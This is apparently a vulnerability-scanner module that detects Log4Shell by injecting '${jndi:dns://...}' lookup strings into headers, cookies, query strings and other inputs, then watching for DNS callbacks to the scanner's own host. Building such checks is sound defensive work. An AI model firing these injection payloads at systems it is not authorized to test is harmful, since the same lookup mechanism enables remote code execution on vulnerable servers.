import { at, definePointCheck, type LabTools, type Nonce, type Point } from '../../active-check.ts';
import type { OutsideNames } from '../../oracle/outside.ts';

const ATTACK = 'name that a log looks up';
const CONTROL = 'the name without anything that a log would do with it';

const yearsAround = () => [-1, 0, 1].map((more) => new Date().getUTCFullYear() + more);

function control(point: Point, { word }: Nonce, outside: OutsideNames) {
  const tag = `${word}-control`;
  return at(point, CONTROL, `dns://${outside.hostFor(tag)}`, { calling: { tag, kind: 'dns', isControl: true } });
}

export default definePointCheck<string>({
  id: 'log4shell',
  title: 'What is logged is looked up, and can bring programs along',
  cwe: 917,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  why: 'The library that writes the log (Log4j before 2.17) follows expressions in what it writes: it has looked up a name of ours. Other expressions make it load and run a program of whoever sends them.',
  fix: 'Update Log4j to the newest release of its line, also in libraries and products that bring it along.',
  risk: 'harmless',
  depth: 'STANDARD',
  locations: ['query', 'path', 'form', 'json', 'graphql', 'cookie', 'header'],
  appliesTo: () => true,
  needsOutside: 'dns',
  // Those who look up all names that pass by do not know what year it is.
  variants: [`\${date:yyyy}`],
  maxRequests: 5,
  proof: {
    plan(point, year, nonce, { outside }) {
      const { word, numbers } = nonce;
      const host = outside?.hostFor(word);
      if (!outside || !host) return [];
      const value = `\${jndi:dns://${year}-${numbers[0]}.${host}}`;
      return [control(point, nonce, outside), at(point, ATTACK, value, { calling: { tag: word, kind: 'dns' } })];
    },
    judge(answers, _year, { numbers: [number] }) {
      if (!answers.has(CONTROL)) return 'VOID';
      const heard = answers.get(ATTACK)?.heard ?? [];
      if (yearsAround().some((year) => heard.some(({ detail }) => detail === `${year}-${number}`))) return 'PROVED';
      if ((answers.get(CONTROL)?.heard ?? []).length > 0) return 'REFUTED';
      return heard.length > 0 ? 'LIKELY' : 'VOID';
    },
  },
  lab(tools?: LabTools) {
    const log = async (line: string) => {
      const computed = line.replaceAll(/\$\{date:yyyy\}/g, String(new Date().getUTCFullYear()));
      const [, name] = /\$\{jndi:dns:\/\/([^}/]+)\}/.exec(computed) ?? [];
      if (name !== undefined) await tools?.lookUp(name);
    };
    return {
      location: 'header',
      parameter: 'Referer',
      value: '',
      async vulnerable(value) {
        await log(value);
        return { body: 'Hello' };
      },
      safe: () => ({ body: 'Hello' }),
    };
  },
});
